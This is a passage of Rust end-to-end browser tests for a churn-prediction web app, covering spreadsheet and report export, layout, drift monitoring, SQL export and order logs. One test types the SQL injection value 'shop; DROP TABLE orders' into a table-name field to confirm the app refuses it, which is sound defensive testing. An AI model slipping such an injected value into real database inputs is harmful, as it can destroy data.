    set_field(c, "action-action-filter", "").await;
    set_field(c, "action-tier-filter", "high").await;
    let high: usize = changed_text(c, "action-count", &format!("{count}"))
        .await
        .replace(',', "")
        .parse()
        .expect("count");
    click(c, "download-xlsx").await;
    let xlsx = downloaded(
        &downloads,
        &format!("churn-action-list-sample_customers-{today}.xlsx"),
    )
    .await;
    use calamine::Reader;
    // Compressed as spreadsheet programs write it (issue 14, defect 3): the first zip entry
    // uses method 8, deflate (PKWARE APPNOTE 4.3.7: the method is at byte 8 of the local
    // header).
    assert_eq!(&xlsx[..4], b"PK\x03\x04");
    assert_eq!(u16::from_le_bytes([xlsx[8], xlsx[9]]), 8, "deflated");
    eprintln!("high tier as xlsx: {} rows, {} bytes", high, xlsx.len());
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).expect("a workbook");
    let sheet = book.worksheet_range("Action list").expect("the sheet");
    assert_eq!(sheet.height(), high + 1);
    assert_eq!(
        sheet.get((0, 6)).map(|d| d.to_string()),
        Some("suggested action".to_string())
    );
    for row in 1..=high {
        assert_eq!(
            sheet.get((row, 2)).map(|d| d.to_string()),
            Some("high".to_string())
        );
        // The action is text exactly as the playbook gives it (the formula one too: an
        // inline string is never evaluated, so it needs no apostrophe).
        let action = sheet.get((row, 6));
        assert!(
            matches!(action, Some(calamine::Data::String(a)) if !a.starts_with('=') || a == FORMULA_ACTION),
            "row {row}: the action is the playbook's text: {action:?}"
        );
        assert!(
            matches!(sheet.get((row, 1)), Some(calamine::Data::Float(_))),
            "probabilities stay numbers"
        );
    }
    let exact = (1..=high)
        .filter(|&row| {
            sheet.get((row, 6)).map(|d| d.to_string()).as_deref() == Some(FORMULA_ACTION)
        })
        .count();
    assert!(
        exact > 0,
        "some high-tier customers get the formula action, written exactly as the merchant typed it"
    );
    // What the merchant sees on opening it, as a page for the screenshot: each cell's
    // value and the type calamine read.
    let mut read_back = String::from(
        "<!doctype html><meta charset=utf-8><style>td,th{border:1px solid #ccc;padding:2px 6px;font:12px sans-serif}</style><table>",
    );
    for row in 0..sheet.height().min(12) {
        read_back.push_str("<tr>");
        for col in 0..sheet.width() {
            let (text, kind) = match sheet.get((row, col)) {
                Some(calamine::Data::Float(v)) => (v.to_string(), "number"),
                Some(calamine::Data::String(t)) => (t.clone(), "text"),
                Some(other) => (other.to_string(), "other"),
                None => (String::new(), "empty"),
            };
            let text = text.replace('&', "&amp;").replace('<', "&lt;");
            read_back.push_str(&format!("<td>{text}<br><small>{kind}</small></td>"));
        }
        read_back.push_str("</tr>");
    }
    read_back.push_str("</table>");
    let read_back_path = downloads.join("xlsx-read-back.html");
    std::fs::write(&read_back_path, read_back).expect("write the read-back page");
    let formulas = book
        .worksheet_formula("Action list")
        .expect("formulas read");
    assert!(
        formulas.used_cells().next().is_none(),
        "no cell of the workbook is a formula"
    );

    // The report: one file.
    click(c, "download-report").await;
    let report = downloaded(
        &downloads,
        &format!("churn-report-sample_customers-{today}.html"),
    )
    .await;
    let report_path = downloads.join("report.html");
    std::fs::write(&report_path, &report).expect("keep the report");
    s.audit_network().await;
    s.close().await;

    // It opens in a fresh browser with the network off, charts and all, asking for nothing.
    let driver = Driver::start();
    let b = browser(&driver).await;
    cdp(&b, "Network.enable", serde_json::json!({})).await;
    cdp(
        &b,
        "Network.emulateNetworkConditions",
        serde_json::json!({ "offline": true, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1 }),
    )
    .await;
    b.goto(&format!("file://{}", read_back_path.display()))
        .await
        .expect("open the read-back workbook");
    screenshot(&b, "17c-xlsx-read-back.png").await;
    // What the browser's own start page loaded is not the report's.
    requested_urls(&b).await;
    b.goto(&format!("file://{}", report_path.display()))
        .await
        .expect("open the report");
    let seen = b
        .execute(
            "return { svgs: [...document.querySelectorAll('svg')].map(s => s.querySelectorAll('polyline, path, rect, circle').length), \
               sections: [...document.querySelectorAll('[data-section]')].map(s => s.dataset.section), \
               resources: performance.getEntriesByType('resource').length, \
               title: document.title };",
            vec![],
        )
        .await
        .expect("read the report");
    eprintln!("report: {} bytes, {seen}", report.len());
    let svgs = seen["svgs"].as_array().expect("svgs");
    assert!(svgs.len() >= 10, "{seen}");
    assert!(
        svgs.iter().all(|n| n.as_u64().is_some_and(|n| n > 3)),
        "every chart has drawn marks: {seen}"
    );
    for section in [
        "summary",
        "comparison",
        "curves",
        "explanation",
        "tiers",
        "profit",
        "playbook",
        "actions",
    ] {
        assert!(
            seen["sections"]
                .as_array()
                .is_some_and(|a| a.iter().any(|s| s == section)),
            "section {section} missing: {seen}"
        );
    }
    assert_eq!(seen["resources"], 0, "the report loads nothing");
    let urls = requested_urls(&b).await;
    assert!(
        urls.iter().all(|u| u.starts_with("file://")),
        "the report asked for {urls:?}"
    );
    screenshot(&b, "18-report.png").await;
    let _ = b.close().await;
}

/// Telco's columns as a Chinese shop's export names them.
const CHINESE_TELCO_HEADER: &str = "客户编号,性别,老年人,伴侣,家属,在网月数,电话服务,多条线路,网络服务,在线安全,在线备份,设备保护,技术支持,电视流媒体,电影流媒体,合同,无纸化账单,付款方式,月费,总费用,流失";

/// Columns of device pixels at the left edge of the canvas `testid` that hold ink (any
/// channel under 128), out of the first `width`.
async fn inked_left_columns(client: &Client, testid: &str, width: u32) -> Value {
    client
        .execute(
            r#"const c = document.querySelector(`[data-testid=${arguments[0]}]`);
               if (!c || !c.dataset.drawn) return null;
               const w = arguments[1];
               const d = c.getContext('2d').getImageData(0, 0, w, c.height).data;
               const inked = new Set();
               for (let i = 0; i < d.length; i += 4) {
                 if (d[i] < 128 || d[i+1] < 128 || d[i+2] < 128) inked.add((i / 4) % w);
               }
               return [...inked].sort((a, b) => a - b);"#,
            vec![Value::from(testid), Value::from(width)],
        )
        .await
        .expect("read canvas")
}

/// Elements that stick out of their card (`.panel`) at the current width, and whether the
/// page is wider than the window.
async fn overflow_report(client: &Client) -> Value {
    client
        .execute(
            r#"const bad = [];
               for (const panel of document.querySelectorAll('.panel')) {
                 const r = panel.getBoundingClientRect();
                 if (panel.scrollWidth > panel.clientWidth + 1) bad.push(`${panel.className} scrolls by ${panel.scrollWidth - panel.clientWidth}`);
                 for (const e of panel.querySelectorAll('*')) {
                   const b = e.getBoundingClientRect();
                   if (b.width === 0 || b.height === 0) continue;
                   if (b.right > r.right + 1 || b.left < r.left - 1) {
                     const id = e.dataset.testid || e.className || e.tagName;
                     bad.push(`${id} spans ${Math.round(b.left)}..${Math.round(b.right)} in a card ${Math.round(r.left)}..${Math.round(r.right)}`);
                   }
                 }
               }
               return { bad: bad.slice(0, 20), page: document.documentElement.scrollWidth, window: window.innerWidth };"#,
            vec![],
        )
        .await
        .expect("measure the layout")
}

/// Issue 14, defects 6 to 9 on a Chinese export of Telco: the importance chart shows whole
/// Chinese labels; a scored action list survives switching the model in use away and back;
/// every card fits its content at 1,400 and 1,280 px and the page fits a 390 px phone;
/// Cancel during the fourth of four models says what it stopped and kept, unticks the
/// stopped model and uses the recommended one.
#[tokio::test]
#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
async fn chinese_telco_labels_cached_scores_layout_and_cancel() {
    let telco = std::fs::read_to_string(shared_dataset("WA_Fn-UseC_-Telco-Customer-Churn.csv"))
        .expect("the Telco dataset in ../shared/datasets");
    let (_, body) = telco.split_once('\n').expect("a header");
    let path = output_dir().join("电信客户.csv");
    std::fs::write(&path, format!("{CHINESE_TELCO_HEADER}\n{body}")).expect("write");
    let s = open_app().await;
    let c = &s.client;
    upload(c, &path).await;
    assert_eq!(text_of(c, "row-count").await, "7043");
    wait_for(
        c,
        "the detected target",
        "return document.querySelector('[data-testid=target-select]')?.value ?? null;",
        |v| v.as_str() == Some("流失"),
    )
    .await;
    choose_models(c, &["logistic", "gbdt"]).await;
    click(c, "train-button").await;
    wait_for(
        c,
        "two models and the importance chart",
        "const e = document.querySelector('[data-testid=importance-chart]'); \
         return e && e.dataset.drawn && document.querySelectorAll('[data-testid=comparison-row]').length === 2 ? true : null;",
        |v| v == true,
    )
    .await;
    // Every label is whole: nothing is drawn in the first four pixel columns (the first
    // character of `在网月数` used to be cut off there), yet the labels are drawn.
    let inked = inked_left_columns(c, "importance-chart", 120).await;
    let inked: Vec<u64> = inked
        .as_array()
        .expect("columns")
        .iter()
        .filter_map(Value::as_u64)
        .collect();
    assert!(
        inked.first().is_some_and(|&x| x >= 4),
        "ink at the left edge: {inked:?}"
    );
    assert!(inked.len() > 20, "the labels are drawn: {inked:?}");
    screenshot_of(c, "importance-chart", "20-chinese-importance.png").await;
    // No rule of the default playbook names a Chinese column: the page says so.
    let no_match = text_of(c, "playbook-no-match").await;
    assert!(!no_match.is_empty());

    // Score with the logistic regression, use the trees, come back: the list is still there.
    c.execute(
        "document.querySelector('[data-testid=use-model][data-model=logistic]')?.click(); return true;",
        vec![],
    )
    .await
    .expect("use the logistic regression");
    wait_for(
        c,
        "the logistic regression in use",
        "return document.querySelector('[data-testid=result-model]')?.textContent ?? null;",
        |v| v == "logistic regression",
    )
    .await;
    click(c, "score-customers").await;
    wait_for(
        c,
        "every customer scored",
        "return document.querySelector('[data-testid=action-count]')?.textContent ?? null;",
        |v| v == "7,043",
    )
    .await;
    c.execute(
        "document.querySelector('[data-testid=use-model][data-model=gbdt]').click(); return true;",
        vec![],
    )
    .await
    .expect("use the trees");
    wait_for(
        c,
        "the trees in use, not yet scored",
        "return document.querySelector('[data-testid=result-model]')?.textContent === 'gradient-boosted trees' \
         && !document.querySelector('[data-testid=action-count]') ? true : null;",
        |v| v == true,
    )
    .await;
    c.execute(
        "document.querySelector('[data-testid=use-model][data-model=logistic]').click(); return true;",
        vec![],
    )
    .await
    .expect("back to the logistic regression");
    let kept = c
        .execute(
            "return [document.querySelector('[data-testid=action-count]')?.textContent ?? null, \
             !!document.querySelector('[data-testid=progress]')];",
            vec![],
        )
        .await
        .expect("the list");
    assert_eq!(
        kept,
        serde_json::json!(["7,043", false]),
        "the scored list is kept, no new scoring"
    );

    // Layout: every card holds its content at 1,400 and 1,280 px; a phone has no sideways
    // scrolling page.
    for (width, whole_cards) in [(1400, true), (1280, true), (390, false)] {
        cdp(
            c,
            "Emulation.setDeviceMetricsOverride",
            serde_json::json!({ "width": width, "height": 900, "deviceScaleFactor": 1, "mobile": false }),
        )
        .await;
        tokio::time::sleep(std::time::Duration::from_millis(400)).await;
        let report = overflow_report(c).await;
        eprintln!("layout at {width} px: {report}");
        assert!(
            report["page"].as_u64() <= report["window"].as_u64(),
            "the page is wider than {width} px: {report}"
        );
        if whole_cards {
            assert_eq!(report["bad"], serde_json::json!([]), "at {width} px");
        }
        screenshot(c, &format!("21-layout-{width}.png")).await;
    }
    cdp(
        c,
        "Emulation.clearDeviceMetricsOverride",
        serde_json::json!({}),
    )
    .await;

    // Issue 14, defect 5: a model fitted with equal class weights gives probabilities
    // corrected back to the real churn share, and the page says so.
    assert!(text_of(c, "probability-correction")
        .await
        .starts_with("Probabilities are the model's own"));
    choose_models(c, &["logistic"]).await;
    c.execute(
        "document.querySelector('[data-testid=advanced]').open = true; return true;",
        vec![],
    )
    .await
    .expect("open the advanced settings");
    set_field(c, "balance", "weights").await;
    click(c, "train-button").await;
    let note = wait_for(
        c,
        "the weighted model's probability note",
        "const e = document.querySelector('[data-testid=probability-correction]'); \
         return e && e.textContent.startsWith('Probabilities corrected') ? e.textContent : null;",
        |v| v.is_string(),
    )
    .await;
    eprintln!("weighted model: {note}");
    // The fitted share is 50% (equal weights), the real one Telco's 26.5% (1,869 of 7,043).
    assert!(
        note.as_str()
            .is_some_and(|n| n.contains("as if 50.0% of customers churned")),
        "{note}"
    );
    set_field(c, "balance", "none").await;

    // Cancel during the fourth of four models (a network of 2,000 hidden units is slow).
    choose_models(c, &["logistic", "gbdt", "forest", "mlp"]).await;
    c.execute(
        "document.querySelector('[data-testid=advanced]').open = true; return true;",
        vec![],
    )
    .await
    .expect("open the advanced settings");
    set_field(c, "param-mlp-units", "2000").await;
    click(c, "train-button").await;
    wait_for(
        c,
        "three models finished and the network training",
        "return document.querySelectorAll('[data-testid=comparison-row]').length === 3 \
         && document.querySelector('[data-testid=cancel-button]') ? true : null;",
        |v| v == true,
    )
    .await;
    click(c, "cancel-button").await;
    let notice = text_of(c, "notice").await;
    assert!(
        notice.contains(
            "Kept: logistic regression, gradient-boosted trees and random forest; not trained: neural network"
        ),
        "{notice}"
    );
    let state = c
        .execute(
            "return [document.querySelector('[data-testid=model-mlp]').checked, \
             document.querySelector('[data-testid=model-forest]').checked, \
             !!document.querySelector('[data-testid=comparison-row].chosen [data-testid=recommended]'), \
             document.querySelectorAll('[data-testid=comparison-row]').length];",
            vec![],
        )
        .await
        .expect("the form and the comparison");
    assert_eq!(
        state,
        serde_json::json!([false, true, true, 3]),
        "network unticked, the recommended model in use"
    );
    let in_use = text_of(c, "result-model").await;
    assert!(
        notice.contains(&format!("In use: {in_use}")),
        "{notice} / {in_use}"
    );
    s.audit_network().await;
    s.close().await;
}

/// The drift rows the page shows: (column, drifted, light, PSI as shown).
async fn drift_rows(c: &Client, file: &str) -> Vec<(String, bool, String, String)> {
    let script = format!(
        r#"const h = document.querySelector('[data-testid=check-results] h3');
           if (!h || !h.textContent.startsWith({file:?})) return null;
           return [...document.querySelectorAll('[data-testid=drift-row]')].map(r =>
             [r.dataset.column, r.dataset.drifted, r.dataset.light,
              r.querySelector('[data-testid=drift-psi]').textContent]);"#
    );
    let rows = wait_for(c, &format!("the drift table of {file}"), &script, |v| {
        v.as_array().is_some_and(|a| !a.is_empty())
    })
    .await;
    rows.as_array()
        .expect("rows")
        .iter()
        .map(|r| {
            (
                r[0].as_str().expect("column").to_string(),
                r[1] == "true",
                r[2].as_str().expect("light").to_string(),
                r[3].as_str().expect("psi").to_string(),
            )
        })
        .collect()
}

/// Names of the models in My models, newest first.
async fn saved_names(c: &Client, count: usize) -> Vec<String> {
    let names = wait_for(
        c,
        &format!("{count} saved model(s)"),
        r#"return [...document.querySelectorAll('[data-testid=saved-model-name]')].map(e => e.textContent);"#,
        |v| v.as_array().is_some_and(|a| a.len() == count),
    )
    .await;
    names
        .as_array()
        .expect("names")
        .iter()
        .map(|n| n.as_str().expect("name").to_string())
        .collect()
}

/// `path`'s CSV (no quoted fields, as the Telco split) with `edit` applied to each data row.
fn edited_telco(
    path: &std::path::Path,
    out: &std::path::Path,
    edit: &dyn Fn(&[String], &mut Vec<String>),
) {
    let text = std::fs::read_to_string(path).expect("csv");
    let mut lines = text.lines();
    let header: Vec<String> = lines
        .next()
        .expect("header")
        .split(',')
        .map(String::from)
        .collect();
    let mut written = header.join(",") + "\n";
    for line in lines {
        let mut cells: Vec<String> = line.split(',').map(String::from).collect();
        edit(&header, &mut cells);
        written += &(cells.join(",") + "\n");
    }
    std::fs::write(out, written).expect("write");
}

/// Step 6's "Export as SQL" on the open model (the Telco logistic regression downloaded as
/// `model_bytes`): every engine in the list, a refused table name, the preview, Copy, and
/// the download read back, which is the query the engine writes from the model file.
async fn export_the_open_model_as_sql(c: &Client, downloads: &std::path::Path, model_bytes: &[u8]) {
    use churnscope_engine::acting::sql::{export_sql, Dialect, SqlOptions};
    let model = churnscope_engine::monitoring::model_file::ModelFile::from_json(
        std::str::from_utf8(model_bytes).expect("utf-8"),
    )
    .expect("the model file reads");
    c.execute(
        "document.querySelector('[data-testid=sql-export]').open = true; return true;",
        vec![],
    )
    .await
    .expect("open the export");
    // The id column is the training file's identifier, filled in.
    let id = c
        .execute(
            "return document.querySelector('[data-testid=sql-id]').value;",
            vec![],
        )
        .await
        .expect("id");
    assert_eq!(id, "customerID");
    set_field(c, "sql-table", "shop; DROP TABLE orders").await;
    click(c, "sql-write").await;
    let refused = text_of(c, "sql-error").await;
    assert!(refused.contains("is not a table name"), "{refused}");
    set_field(c, "sql-table", "shop.customers").await;
    // Each engine through the whole list: the last (BigQuery) too.
    for d in Dialect::ALL {
        set_field(c, "sql-dialect", d.name()).await;
        click(c, "sql-write").await;
        let script = "const e = document.querySelector('[data-testid=sql-size]'); return e ? e.textContent : null;";
        wait_for(c, "the query's size line", script, |v| {
            v.as_str().is_some_and(|s| s.contains(d.label()))
        })
        .await;
        let preview = c
            .execute(
                "return document.querySelector('[data-testid=sql-preview]').value;",
                vec![],
            )
            .await
            .expect("preview");
        let options = SqlOptions {
            dialect: d,
            table: "shop.customers".into(),
            view: None,
            id_column: Some("customerID".into()),
        };
        let want = export_sql(&model, &options).expect("the engine writes it");
        assert_eq!(preview.as_str(), Some(want.as_str()), "{}", d.name());
    }
    set_field(c, "sql-dialect", "postgres").await;
    set_field(c, "sql-view", "churn_scores").await;
    click(c, "sql-write").await;
    click(c, "sql-copy").await;
    let copied = text_of(c, "sql-copied").await;
    assert!(copied.starts_with("Copied the whole query"), "{copied}");
    screenshot_of(c, "sql-export", "31-sql-export.png").await;
    click(c, "sql-download").await;
    let file = downloaded(downloads, "Telco-monthly-postgres.sql").await;
    let options = SqlOptions {
        dialect: Dialect::Postgres,
        table: "shop.customers".into(),
        view: Some("churn_scores".into()),
        id_column: Some("customerID".into()),
    };
    let want = export_sql(&model, &options).expect("the engine writes it");
    assert_eq!(String::from_utf8(file).expect("utf-8"), want);
    assert!(want.contains("CREATE OR REPLACE VIEW churn_scores AS"));
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver; run by scripts/test.sh"]
async fn saved_model_scores_next_months_export_and_flags_drift() {
    let s = open_app().await;
    let c = &s.client;
    let downloads = output_dir().join("downloads-monitor");
    allow_downloads(c, &downloads).await;
    upload(c, &shared_dataset("splits/telco_ibm_train.csv")).await;
    assert_eq!(text_of(c, "row-count").await, "5634");
    click(c, "train-button").await;
    number(c, "metric-roc-auc").await;
    // The tiers view's cut-offs, moved, go into the model file.
    set_field(c, "tier-high", "0.6").await;
    set_field(c, "tier-medium", "0.25").await;
    // Save: a download (read back as a merchant would) and My models.
    set_field(c, "model-name", "Telco monthly").await;
    click(c, "download-model").await;
    let name = format!(
        "churn-model-telco_ibm_train-{}.churnscope.json",
        today_utc()
    );
    let model_bytes = downloaded(&downloads, &name).await;
    let model: Value = serde_json::from_slice(&model_bytes).expect("the model file is JSON");
    assert_eq!(model["format"], "churnscope-model");
    assert_eq!(model["dataset"]["name"], "telco_ibm_train.csv");
    assert_eq!(model["dataset"]["rows"], 5634);
    assert_eq!(model["tiers"]["high"], 0.6);
    assert_eq!(model["tiers"]["medium"], 0.25);
    assert_eq!(model["settings"]["target"]["column"], "Churn");
    let model_path = output_dir().join("telco-from-page.churnscope.json");
    std::fs::write(&model_path, &model_bytes).expect("keep the model file");
    click(c, "save-model").await;
    assert_eq!(saved_names(c, 1).await, ["Telco monthly"]);
    screenshot_of(c, "monitor", "30-monitor-saved.png").await;
    // The shifted copy: tenure halved, monthly charges up 30%.
    let shifted = output_dir().join("telco_shifted.csv");
    edited_telco(
        &shared_dataset("splits/telco_ibm_test.csv"),
        &shifted,
        &|h, cells| {
            let at = |name: &str| h.iter().position(|c| c == name).expect("column");
            let t: f64 = cells[at("tenure")].parse().expect("tenure");
            cells[at("tenure")] = format!("{}", (t / 2.0).floor());
            let m: f64 = cells[at("MonthlyCharges")].parse().expect("charges");
            cells[at("MonthlyCharges")] = format!("{:.2}", m * 1.3);
        },
    );
    // While the training data is still open, a retrain trains on it as well.
    upload_to(c, "export-input", &shifted).await;
    drift_rows(c, "telco_shifted.csv").await;
    click(c, "retrain").await;
    let both = text_of(c, "retrain-results").await;
    assert!(
        both.contains("the original data still open (5,634 rows)"),
        "{both}"
    );
    click(c, "retrain-dismiss").await;
    // A reload forgets the tab's data but not My models.
    c.refresh().await.expect("reload");
    assert_eq!(saved_names(c, 1).await, ["Telco monthly"]);
    click(c, "open-saved").await;
    let summary = text_of(c, "open-model-summary").await;
    assert!(
        summary.starts_with("Telco monthly") && summary.contains("telco_ibm_train.csv"),
        "{summary}"
    );
    export_the_open_model_as_sql(c, &downloads, &model_bytes).await;
    // The held-out customers of the same file: no column drifts.
    upload_to(
        c,
        "export-input",
        &shared_dataset("splits/telco_ibm_test.csv"),
    )
    .await;
    let rows = drift_rows(c, "telco_ibm_test.csv").await;
    let drifted: Vec<&(String, bool, String, String)> = rows.iter().filter(|r| r.1).collect();
    assert!(drifted.is_empty(), "{drifted:?}");
    assert!(rows.iter().all(|r| r.2 == "green"), "{rows:?}");
    assert!(text_of(c, "drift-verdict")
        .await
        .starts_with("0 of 19 columns drifted"));
    let estimate = text_of(c, "estimated-auc").await;
    assert!(estimate.contains("an estimate"), "{estimate}");
    // The test file holds the outcomes: 1,409 customers (datasets/splits), no decay.
    let realised = text_of(c, "realised-metrics").await;
    assert!(realised.contains("1,409 customers"), "{realised}");
    let no_decay = c
        .execute(
            "return !document.querySelector('[data-testid=decay-warning]');",
            vec![],
        )
        .await
        .expect("script");
    assert_eq!(no_decay, Value::Bool(true));
    // The action list of the new customers, downloaded and read back.
    click(c, "download-csv").await;
    let csv = downloaded(
        &downloads,
        &format!("churn-action-list-telco_ibm_test-{}.csv", today_utc()),
    )
    .await;
    let csv = String::from_utf8(csv).expect("utf-8");
    let csv = csv.trim_start_matches('\u{feff}');
    assert_eq!(
        csv.lines().filter(|l| !l.is_empty()).count(),
        1 + 1409,
        "{}",
        &csv[..300.min(csv.len())]
    );
    assert!(
        csv.contains("4376-KFVRS"),
        "the first test customer is listed"
    );
    // Exactly those two drift.
    upload_to(c, "export-input", &shifted).await;
    let rows = drift_rows(c, "telco_shifted.csv").await;
    let mut drifted: Vec<&str> = rows
        .iter()
        .filter(|r| r.1 && r.0 != "churn probability")
        .map(|r| r.0.as_str())
        .collect();
    drifted.sort();
    assert_eq!(drifted, ["MonthlyCharges", "tenure"]);
    // Most severe first, and the same PSI as the CLI computes from the downloaded file.
    assert!(rows[0].1 && rows[1].1, "{rows:?}");
    let cli = std::process::Command::new(cli_binary())
        .args([
            "drift",
            model_path.to_str().expect("path"),
            shifted.to_str().expect("path"),
            "--format",
            "json",
        ])
        .output()
        .expect("run the CLI");
    assert!(
        cli.status.success(),
        "{}",
        String::from_utf8_lossy(&cli.stderr)
    );
    let cli: Value = serde_json::from_slice(&cli.stdout).expect("CLI json");
    for f in cli["report"]["features"].as_array().expect("features") {
        let column = f["column"].as_str().expect("column");
        let page = rows
            .iter()
            .find(|r| r.0 == column)
            .expect("the page shows every column");
        assert_eq!(
            page.3,
            format!("{:.3}", f["psi"].as_f64().expect("psi")),
            "{column}"
        );
        assert_eq!(page.1, f["drifted"] == true, "{column}");
    }
    // A row opens on its two distributions, drawn.
    c.execute(
        "document.querySelector('[data-testid=drift-row][data-column=tenure] summary').click(); return true;",
        vec![],
    )
    .await
    .expect("open the tenure row");
    wait_for(
        c,
        "the tenure chart",
        "const e = document.querySelector('[data-testid=drift-row][data-column=tenure] canvas'); return e && e.dataset.drawn === 'true';",
        |v| v == &Value::Bool(true),
    )
    .await;
    screenshot_of(c, "drift-table", "31-drift-table.png").await;
    // The report of the new export: one HTML file that loads nothing.
    click(c, "download-scoring-report").await;
    let html = downloaded(
        &downloads,
        &format!("churn-scores-report-telco_shifted-{}.html", today_utc()),
    )
    .await;
    let html = String::from_utf8(html).expect("utf-8");
    assert!(
        html.contains("2 of 19 columns drifted"),
        "the report's verdict"
    );
    assert!(!html.contains("<script"));
    // Retrain on the shifted export: old and new side by side; accepting keeps both.
    click(c, "retrain").await;
    let compare = text_of(c, "retrain-compare").await;
    assert!(compare.contains("ROC AUC"), "{compare}");
    screenshot_of(c, "retrain-results", "32-retrain.png").await;
    click(c, "retrain-accept").await;
    let names = saved_names(c, 2).await;
    assert!(
        names[0].starts_with("Telco monthly (retrained on telco_shifted.csv)"),
        "{names:?}"
    );
    assert_eq!(names[1], "Telco monthly");
    // Rename, then delete (it asks once more).
    click(c, "rename-saved").await;
    set_field(c, "rename-input", "Telco May").await;
    click(c, "rename-confirm").await;
    wait_for(
        c,
        "the new name",
        "return [...document.querySelectorAll('[data-testid=saved-model-name]')].map(e => e.textContent);",
        |v| v.as_array().is_some_and(|a| a.iter().any(|n| n == "Telco May")),
    )
    .await;
    // A file that is not a model is refused by name, and the open model stays.
    upload_to(
        c,
        "model-file-input",
        &shared_dataset("splits/telco_ibm_test.csv"),
    )
    .await;
    let refused = text_of(c, "monitor-error").await;
    assert!(
        refused.starts_with("telco_ibm_test.csv: not a churnscope model file"),
        "{refused}"
    );
    // The downloaded file opens as well.
    upload_to(c, "model-file-input", &model_path).await;
    wait_for(
        c,
        "the opened file",
        "const e = document.querySelector('[data-testid=open-model-summary]'); return e && e.textContent;",
        |v| v.as_str().is_some_and(|t| t.starts_with("telco-from-page.churnscope.json")),
    )
    .await;
    click(c, "delete-saved").await;
    click(c, "delete-saved").await;
    saved_names(c, 1).await;
    // Forget everything empties My models.
    c.execute(
        "document.querySelector('[data-testid=privacy-panel]').open = true; return true;",
        vec![],
    )
    .await
    .expect("open the privacy panel");
    click(c, "forget-everything").await;
    let result = text_of(c, "forget-result").await;
    assert!(result.contains("1 saved model(s)"), "{result}");
    text_of(c, "my-models-empty").await;
    c.refresh().await.expect("reload");
    text_of(c, "my-models-empty").await;
    s.audit_network().await;
    s.close().await;
}

/// The comparison table's ROC AUC cell of the row `model` (data-model), as shown.
async fn comparison_auc(c: &Client, model: &str) -> String {
    let script = format!(
        "const r = document.querySelector('[data-testid=comparison-row][data-model={model}] [data-metric=roc_auc]'); return r ? r.textContent : null;"
    );
    wait_for(c, model, &script, |v| v.is_string())
        .await
        .as_str()
        .expect("text")
        .to_string()
}

#[tokio::test]
#[ignore = "needs the built site and chromedriver; run by scripts/test.sh"]
async fn an_order_log_becomes_customers_beside_the_btyd_baselines() {
    // The project's seeded order log (`churnscope sample --orders`, engine::orders::generate).
    let log = output_dir().join("orders_e2e.csv");
    let made = std::process::Command::new(cli_binary())
        .args([
            "sample", "--orders", "--rows", "1500", "--seed", "17", "--out",
        ])
        .arg(&log)
        .status()
        .expect("run the CLI");
    assert!(made.success());
    // The CLI on the same file: what the page must show.
    let cli = std::process::Command::new(cli_binary())
        .args(["orders", "--format", "json"])
        .arg(&log)
        .output()
        .expect("run the CLI");
    assert!(
        cli.status.success(),
        "{}",
        String::from_utf8_lossy(&cli.stderr)
    );
    let cli: Value = serde_json::from_slice(&cli.stdout).expect("CLI json");
    let labelled = cli["summary"]["labelled"].as_u64().expect("labelled");
    let current = cli["summary"]["current"].as_u64().expect("current");
    let cutoff = cli["summary"]["cutoff"]
        .as_str()
        .expect("cutoff")
        .to_string();
    let s = open_app().await;
    let c = &s.client;
    let downloads = output_dir().join("downloads-orders");
    allow_downloads(c, &downloads).await;
    upload(c, &log).await;
    // Recognised as a log, columns mapped from the header alone.
    let detected = text_of(c, "orders-detected").await;
    assert!(
        detected.contains("Customer ids repeat in 'customer_id'"),
        "{detected}"
    );
    let mapped = c
        .execute(
            "return ['customer','date','quantity','unit_price','order_id','status'].map(r => document.querySelector(`[data-testid=map-${r}]`).value);",
            vec![],
        )
        .await
        .expect("mapping");
    assert_eq!(
        mapped,
        serde_json::json!([
            "customer_id",
            "order_date",
            "quantity",
            "unit_price",
            "order_id",
            "status"
        ])
    );
    let timeline = text_of(c, "orders-timeline").await;
    assert!(timeline.contains("churn horizon"), "{timeline}");
    assert!(
        timeline.contains(&cutoff),
        "the default cutoff {cutoff}: {timeline}"
    );
    screenshot_of(c, "orders-step", "33-orders-mapping.png").await;
    // A horizon past the log is refused with the latest possible cutoff, nothing lost.
    set_field(c, "orders-cutoff", "2024-12-01").await;
    click(c, "derive-customers").await;
    let error = text_of(c, "error-message").await;
    assert!(error.contains("needs a cutoff on or before"), "{error}");
    set_field(c, "orders-cutoff", &cutoff).await;
    // Cancel while the worker starts: nothing derived, the log still there to derive.
    click(c, "derive-customers").await;
    text_of(c, "progress-stage").await;
    click(c, "cancel-button").await;
    let notice = text_of(c, "notice").await;
    assert!(
        notice.contains("The order log and anything derived before are as they were"),
        "{notice}"
    );
    let nothing = c
        .execute(
            "return !document.querySelector('[data-testid=orders-summary]');",
            vec![],
        )
        .await
        .expect("script");
    assert_eq!(nothing, Value::Bool(true));
    click(c, "derive-customers").await;
    let summary = text_of(c, "orders-summary").await;
    let expected = format!("Labelled as of {cutoff}: {} customers", group(labelled));
    assert!(summary.contains(&expected), "{expected} in {summary}");
    screenshot_of(c, "orders-step", "35-orders-derived.png").await;
    // The derived table, downloaded and read back: one row per labelled customer.
    click(c, "download-customers").await;
    let table = downloaded(&downloads, &format!("orders_e2e-customers-{cutoff}.csv")).await;
    let table = String::from_utf8(table).expect("utf-8");
    let mut lines = table.trim_start_matches('\u{feff}').lines();
    let header = lines.next().expect("header");
    assert!(
        header.starts_with("customer,recency_days,frequency,monetary_total"),
        "{header}"
    );
    assert!(header.ends_with(",churned"), "{header}");
    assert_eq!(lines.filter(|l| !l.is_empty()).count() as u64, labelled);
    // The current customers, with both models' chance of being alive as of the last day.
    click(c, "download-current").await;
    let table = downloaded(&downloads, "orders_e2e-current-customers.csv").await;
    let table = String::from_utf8(table).expect("utf-8");
    let mut lines = table.trim_start_matches('\u{feff}').lines();
    let header = lines.next().expect("header");
    assert!(
        header.contains(",p_alive_bgnbd,expected_orders_bgnbd,p_alive_paretonbd,"),
        "{header}"
    );
    assert_eq!(lines.filter(|l| !l.is_empty()).count() as u64, current);
    // Train logistic regression and boosted trees; the baselines join the table.
    choose_models(c, &["logistic", "gbdt"]).await;
    click(c, "train-button").await;
    number(c, "metric-roc-auc").await;
    for (model, key) in [("bg_nbd", 0), ("pareto_nbd", 1)] {
        let shown = comparison_auc(c, model).await;
        let native = cli["baselines"][key]["roc_auc"]
            .as_f64()
            .expect("CLI baseline");
        assert_eq!(
            shown,
